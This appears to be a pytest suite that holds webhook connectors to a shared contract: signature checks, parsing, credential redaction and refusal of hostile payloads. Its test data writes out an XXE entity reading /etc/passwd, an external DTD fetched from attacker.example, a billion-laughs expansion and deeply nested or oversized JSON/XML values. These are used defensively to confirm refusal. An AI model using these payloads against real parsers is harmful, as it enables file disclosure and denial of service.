"""The contract every connector keeps, run over every registered connector and every fixture."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta, timezone

import pytest

from connectors import registry
from connectors.base import validate_event
from hub.errors import InvalidInput, MalformedBody, SignatureVerificationError


def test_every_registered_connector_has_a_harness(harnesses):
    assert set(registry.available()) == set(harnesses)


def test_every_vendor_has_at_least_five_fixtures(harnesses, vendor):
    assert len(harnesses[vendor].fixture_paths()) >= 5


def test_good_signature_passes(harnesses, vendor_fixture):
    vendor, path = vendor_fixture
    harness = harnesses[vendor]
    harness.connector().verify(harness.signed(path.read_bytes()))


def test_forged_request_is_refused(harnesses, forgery):
    vendor, case = forgery
    harness = harnesses[vendor]
    if case in harness.not_applicable:
        pytest.skip(harness.not_applicable[case])
    if case == "stale_timestamp" and vendor != "stripe":
        pytest.fail(f"{vendor} must declare why {case} does not apply")
    body = harness.fixture_paths()[0].read_bytes()
    connection, request = harness.forge(case, body)
    connector = registry.create_connector(connection)
    with pytest.raises(SignatureVerificationError) as caught:
        connector.verify(request)
    assert connector.refuse(caught.value).status >= 400


def test_every_fixture_parses_and_normalises_into_valid_events(harnesses, vendor_fixture, kit):
    vendor, path = vendor_fixture
    harness = harnesses[vendor]
    connector = harness.connector()
    request = harness.signed(path.read_bytes())
    notifications = connector.parse(request)
    assert notifications, "every fixture holds at least one notification"
    with harness.fake_api():
        events = kit.normalise_all(connector, request)
    for note in notifications:
        assert isinstance(note.vendor_event_id, str) and note.vendor_event_id
        json.dumps(note.payload)  # the inbox stores it as JSON
    for event in events:
        validate_event(event)
        assert event["connection"] == connector.connection.name
        assert event["connector"] == vendor
    assert len({e["id"] for e in events}) == len(events)


def test_unusable_body_is_malformed(harnesses, vendor, kit):
    connector = harnesses[vendor].connector()
    with pytest.raises(MalformedBody):
        connector.parse(kit.webhook(b"\xff\xfe not json, not xml <"))


def test_acknowledge_is_2xx(harnesses, vendor):
    harness = harnesses[vendor]
    connector = harness.connector()
    notifications = connector.parse(harness.signed(harness.fixture_paths()[0].read_bytes()))
    reply = connector.acknowledge(notifications)
    assert 200 <= reply.status < 300
    assert reply.body and reply.content_type


def test_connection_repr_hides_secrets(harnesses, vendor):
    connection = harnesses[vendor].connection()
    shown = repr(connection)
    for key, value in connection.config.items():
        if any(word in key for word in ("secret", "password", "token", "key", "session")):
            assert str(value) not in shown


def test_every_fixture_passes_read(harnesses, vendor_fixture):
    vendor, path = vendor_fixture
    harness = harnesses[vendor]
    connector = harness.connector()
    request = harness.signed(path.read_bytes())
    connector.verify(request)
    assert connector.read(request) == connector.parse(request)


def test_redact_body_blanks_only_the_vendors_credentials(harnesses, vendor_fixture):
    vendor, path = vendor_fixture
    harness = harnesses[vendor]
    connector = harness.connector()
    body = path.read_bytes()
    credentials = harness.body_credentials(body)
    redacted = connector.redact_body(body)
    expected = body
    for value in credentials:
        expected = expected.replace(b">" + value + b"</", b"></")
    assert redacted == expected  # the elements stay (nil ones untouched); a body without any is identical
    for value in credentials:
        assert value not in redacted
    assert connector.redact_body(redacted) == redacted
    assert connector.read(harness.signed(redacted)) == connector.read(harness.signed(body))
    bare = harness.without_credentials(body)
    assert connector.redact_body(bare) == bare


def test_body_credentials_are_found_when_the_vendor_sends_them(harnesses, vendor):
    """Keeps the redaction test honest: credential-carrying fixtures exist for such vendors."""
    harness = harnesses[vendor]
    found = [harness.body_credentials(path.read_bytes()) for path in harness.fixture_paths()]
    assert any(found) == bool(harness.credential_markers)


# --- hostile payloads: correctly signed, refused before anything is stored --------------------
#
# Every case is a real fixture changed through the harness (conftest.py knows where each vendor
# keeps its ids and times) and signed for the harness's connection. verify() then read() must
# raise InvalidInput (or, for a foreign sender, SignatureVerificationError): never a
# RecursionError, OverflowError or ValueError, which would be a 500 the vendor retries forever.

DEEP = {
    ".json": b'"deep":' + b"[" * 100_000 + b"]" * 100_000,
    ".xml": b"<Deep>" * 30_000 + b"x" + b"</Deep>" * 30_000,
}
BENIGN = {".json": b'"note":"fine"', ".xml": b"<Note>fine</Note>"}
JSON_MEMBERS = {
    "nested_100000_arrays": DEEP[".json"],
    "nested_500_objects": b'"deep":' + b'{"a":' * 500 + b"1" + b"}" * 500,
    "integer_4400_digits": b'"amount":' + b"9" * 4400,
    "negative_integer_4400_digits": b'"amount":-' + b"9" * 4400,
    "integer_2_pow_63": b'"amount":9223372036854775808',
    "float_1e400": b'"amount":1e400',
    "nan": b'"amount":NaN',
    "infinity": b'"amount":Infinity',
    "negative_infinity": b'"amount":-Infinity',
    "nul_in_string": b'"note":"a\\u0000b"',
    "nul_in_key": b'"a\\u0000b":"note"',
    "lone_surrogate": b'"note":"\\ud800"',
}
LAUGHS = b'<!DOCTYPE lolz [<!ENTITY lol0 "lol">%s]>' % b"".join(
    b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 10)
)  # &lol9; would expand to 10**9 "lol"s
XML_CASES = {  # case → (DOCTYPE to add, field to add to the record)
    "nested_30000_fields": (b"", DEEP[".xml"]),
    "nul_character_reference": (b"", b"<Note>a&#0;b</Note>"),
    "billion_laughs": (LAUGHS, b"<Note>&lol9;</Note>"),
    "external_entity": (b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b"<Note>&xxe;</Note>"),
    "external_dtd": (b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">', b""),
}

EPOCH = datetime(1970, 1, 1, tzinfo=UTC)


def _now() -> datetime:
    return datetime.now(UTC)


RECORD_CASES = {
    "event_id_301_chars": lambda h, doc: h.with_event_id(doc, "e" * 301),
    "event_id_with_control_character": lambda h, doc: h.with_event_id(doc, "evt\n1"),
    "customer_id_256_chars": lambda h, doc: h.with_customer_id(doc, "c" * 256),
    "customer_id_with_control_character": lambda h, doc: h.with_customer_id(doc, "cus\t1"),
    "time_one_hour_ahead": lambda h, doc: h.with_time(doc, _now() + timedelta(hours=1)),
    "time_in_year_9999": lambda h, doc: h.with_time(doc, datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC)),
    "time_before_1970": lambda h, doc: h.with_time(doc, datetime(1969, 12, 31, 23, 59, tzinfo=UTC)),
}
# Valid RFC 3339 whose UTC value no datetime holds: refused, or read as no time at all.
EDGE_TIMES = {
    "year_1_at_plus_14_00": datetime(1, 1, 1, tzinfo=timezone(timedelta(hours=14))),
    "year_9999_at_minus_14_00": datetime(9999, 12, 31, 23, 59, tzinfo=timezone(-timedelta(hours=14))),
}
HARMLESS_CASES = {  # the controls: the same edits, within limits, are accepted
    "unchanged": lambda h, doc: doc,
    "ordinary_ids": lambda h, doc: h.with_customer_id(h.with_event_id(doc, "evt_ok_1"), "cus_ok_1"),
    "time_a_minute_ago": lambda h, doc: h.with_time(doc, _now() - timedelta(minutes=1)),
    "time_within_clock_skew": lambda h, doc: h.with_time(doc, _now() + timedelta(minutes=1)),
    "benign_field": lambda h, doc: h.with_raw(doc, BENIGN[h.suffix]),
}


def assert_refused(harness, connector, request, expected=InvalidInput):
    """verify() + read() refuse the request (nothing stored) and the reply is the vendor's 4xx."""
    with pytest.raises(expected) as caught:
        connector.verify(request)
        connector.read(request)
    reply = connector.refuse(caught.value)
    assert 400 <= reply.status < 500
    assert reply.content_type.startswith(harness.refusal_content_type)
    assert harness.refusal_marker in reply.body
    return caught.value


def with_doctype(body: bytes, doctype: bytes) -> bytes:
    declaration, sep, rest = body.partition(b"?>")
    return declaration + sep + b"\n" + doctype + rest if sep else doctype + body


def test_every_vendor_declares_hostile_fixtures(harnesses, vendor):
    harness = harnesses[vendor]
    assert harness.hostile_fixtures, f"{vendor}: name the fixtures the hostile-payload cases start from"
    for name in harness.hostile_fixtures:
        notifications = harness.connector().read(harness.signed(harness.encode(harness.document(name))))
        assert notifications[0].handled, f"{vendor}/{name}: the first record must be a handled customer"


@pytest.mark.parametrize("case", sorted(HARMLESS_CASES))
def test_harness_edit_is_accepted_when_within_limits(harnesses, hostile_base, case):
    vendor, name = hostile_base
    harness = harnesses[vendor]
    body = harness.encode(HARMLESS_CASES[case](harness, harness.document(name)))
    connector = harness.connector()
    request = harness.signed(body)
    connector.verify(request)
    notifications = connector.read(request)
    assert notifications and notifications[0].handled


@pytest.mark.parametrize("case", sorted(RECORD_CASES))
def test_hostile_record_is_refused_before_storing(harnesses, hostile_base, case):
    vendor, name = hostile_base
    harness = harnesses[vendor]
    if case in harness.not_applicable:
        pytest.skip(harness.not_applicable[case])
    body = harness.encode(RECORD_CASES[case](harness, harness.document(name)))
    assert_refused(harness, harness.connector(), harness.signed(body))


@pytest.mark.parametrize("case", sorted(EDGE_TIMES))
def test_time_beyond_the_calendar_is_refused_or_left_unknown(harnesses, hostile_base, case):
    vendor, name = hostile_base
    harness = harnesses[vendor]
    request = harness.signed(harness.encode(harness.with_time(harness.document(name), EDGE_TIMES[case])))
    connector = harness.connector()
    try:
        connector.verify(request)
        notifications = connector.read(request)
    except InvalidInput as refused:
        assert 400 <= connector.refuse(refused).status < 500
        return
    latest = datetime.now(UTC) + timedelta(minutes=5)
    assert all(n.occurred_at is None or EPOCH <= n.occurred_at <= latest for n in notifications)


def test_raw_vendor_time_is_refused_when_out_of_range(harnesses, raw_time):
    vendor, name, case = raw_time
    harness = harnesses[vendor]
    field, value = harness.raw_times[case]
    body = harness.encode(harness.with_raw_time(harness.document(name), field, value))
    assert_refused(harness, harness.connector(), harness.signed(body))


@pytest.mark.parametrize("case", sorted(JSON_MEMBERS))
def test_hostile_json_is_refused_before_storing(harnesses, json_base, case):
    vendor, name = json_base
    harness = harnesses[vendor]
    if case in harness.not_applicable:
        pytest.skip(harness.not_applicable[case])
    body = harness.with_raw(harness.document(name), JSON_MEMBERS[case])
    assert_refused(harness, harness.connector(), harness.signed(body))


@pytest.mark.parametrize("case", sorted(XML_CASES))
def test_hostile_xml_is_refused_with_a_fault_before_storing(harnesses, xml_base, case):
    vendor, name = xml_base
    harness = harnesses[vendor]
    if case in harness.not_applicable:
        pytest.skip(harness.not_applicable[case])
    doctype, field = XML_CASES[case]
    body = with_doctype(harness.with_raw(harness.document(name), field), doctype)
    assert_refused(harness, harness.connector(), harness.signed(body), MalformedBody)


@pytest.mark.parametrize("case", ["tampered_body", "wrong_secret"])
def test_forged_hostile_body_is_refused_by_verify(harnesses, vendor, case):
    """A foreign sender is refused on its signature (or org) alone, before its nesting is walked."""
    harness = harnesses[vendor]
    if case in harness.not_applicable:
        pytest.skip(harness.not_applicable[case])
    body = harness.with_raw(harness.document(harness.hostile_fixtures[0]), DEEP[harness.suffix])
    connection, request = harness.forge(case, body)
    connector = registry.create_connector(connection)
    with pytest.raises(SignatureVerificationError) as caught:
        connector.verify(request)
    reply = connector.refuse(caught.value)
    assert 400 <= reply.status < 500
    assert harness.refusal_marker in reply.body


@pytest.mark.timeout(20)
def test_redact_body_stays_linear_with_unclosed_credential_tags(harnesses, vendor):
    """A valid body may hold credential tags that never close (in a comment): redaction of what
    is about to be stored must stay linear, or one 1 MiB delivery holds a worker for minutes.

    Not a timing measurement: a quadratic scan of this ~1 MiB body takes tens of minutes (36 s
    at 177 KB), a linear one milliseconds; the timeout only separates the two."""
    harness = harnesses[vendor]
    if not harness.credential_markers:
        pytest.skip("the vendor puts no credentials in its bodies")
    document = harness.document(harness.hostile_fixtures[0])
    bait = b"<!-- " + b"".join(harness.credential_markers) * 27_000 + b" -->"  # 81,000 tags, ~1 MiB
    body = harness.with_raw(document, bait)
    connector = harness.connector()
    request = harness.signed(body)
    connector.verify(request)
    assert connector.read(request)  # accepted: this body is stored, so it is redacted
    redacted = connector.redact_body(body)
    for value in harness.body_credentials(document):
        assert value not in redacted
    assert bait in redacted  # the unclosed tags are left as they are
